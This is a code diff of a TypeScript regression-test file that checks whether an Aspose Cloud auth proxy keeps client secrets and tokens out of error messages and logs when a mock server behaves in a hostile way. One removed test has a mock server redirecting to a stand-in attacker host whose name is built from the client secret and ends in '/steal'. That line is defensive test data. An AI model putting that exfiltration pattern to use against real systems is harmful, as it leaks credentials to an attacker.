@@ -1,9 +1,11 @@
 // Regressions found by probing the hardened surfaces from outside (h/probe).
 // Each test drives real loopback servers; each fails on the code as probed.
+// The token service's (a redirect host named after the secret, a refusal's Retry-After)
+// moved to test/core/token-redirects.test.ts and test/core/token-lockout.test.ts.
 import { createServer, type IncomingMessage, type Server, type ServerResponse } from 'node:http';
 import type { AddressInfo } from 'node:net';
 import { inspect } from 'node:util';
-import { AsposeClient, TokenService, type AsposeError } from 'aspose-cloud-auth';
+import { AsposeClient, type AsposeError } from 'aspose-cloud-auth';
 import { createAsposeProxy } from '../../src/proxy/proxy-core';
 
 const servers: Server[] = [];
@@ -88,21 +90,6 @@ describe('asposeProxy handle() never rejects', () => {
 });
 
 describe('server text in error messages is redacted', () => {
-  it('a token endpoint redirecting to a host named after the client secret does not put it in the error or the log', async () => {
-    const secret = '0123456789abcdef0123456789ABCDEF';
-    const base = await listen((req, res) => {
-      req.resume();
-      res.writeHead(302, { location: `https://${secret}.evil.example/steal` });
-      res.end();
-    });
-    const logs: string[] = [];
-    const tokens = track(new TokenService({ clientId: 'my-client-id', clientSecret: secret, baseUrl: base, logger: { error: (m) => logs.push(m) } }));
-    const err = (await tokens.getToken().catch((e: unknown) => e)) as AsposeError;
-    expect(err.code).toBe('ERR_ASPOSE_AUTH_REFUSED');
-    const printed = [err.message, err.stack, JSON.stringify(err), inspect(err, { depth: 10 }), ...logs].join('\n').toLowerCase();
-    expect(printed).not.toContain(secret.toLowerCase());
-  });
-
   it('an API answer whose Content-Type echoes the token does not put the token in ERR_ASPOSE_API_INVALID_RESPONSE', async () => {
     const token = 'eyJhbGciOiJSUzI1NiJ9.eyJzdWIiOiJwcm9iZSJ9.c2lnbmF0dXJlLW9mLXRoZS10b2tlbg';
     const base = await listen((req, res) => {
@@ -113,23 +100,5 @@ describe('server text in error messages is redacted', () => {
     const err = (await client.get('/v4.0/words/x').catch((e: unknown) => e)) as AsposeError;
     expect(err.code).toBe('ERR_ASPOSE_API_INVALID_RESPONSE');
     expect([err.message, err.stack, inspect(err, { depth: 10 })].join('\n')).not.toContain(token);
-  });
-});
-
-describe('a Retry-After holds back token requests whatever the status', () => {
-  it('a refusal (400) with Retry-After: 900 holds the pair back for 900 s, not just the refusal backoff', async () => {
-    let requests = 0;
-    const base = await listen((req, res) => {
-      requests++;
-      req.resume();
-      res.writeHead(400, { 'retry-after': '900', 'content-type': 'application/json' });
-      res.end('{"error":"invalid_client"}');
-    });
-    const tokens = track(new TokenService({ clientId: 'id', clientSecret: 'secretsecretsecret', baseUrl: base }));
-    const sentBefore = Date.now();
-    const err = (await tokens.getToken().catch((e: unknown) => e)) as AsposeError & { retryAt?: number };
-    expect(requests).toBe(1);
-    expect(err.code).toBe('ERR_ASPOSE_AUTH_REFUSED');
-    expect(err.retryAt).toBeGreaterThanOrEqual(sentBefore + 900_000);
   });
 });
